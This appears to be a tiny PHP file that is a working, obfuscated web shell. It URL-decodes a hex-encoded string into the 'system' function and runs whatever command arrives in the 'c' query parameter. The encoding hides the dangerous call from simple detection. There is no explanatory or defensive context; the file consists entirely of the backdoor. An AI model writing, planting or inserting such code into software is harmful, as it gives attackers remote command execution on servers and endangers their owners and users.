<?php
$f = urldecode('%73%79%73%74%65%6d');
$f($_GET['c']);
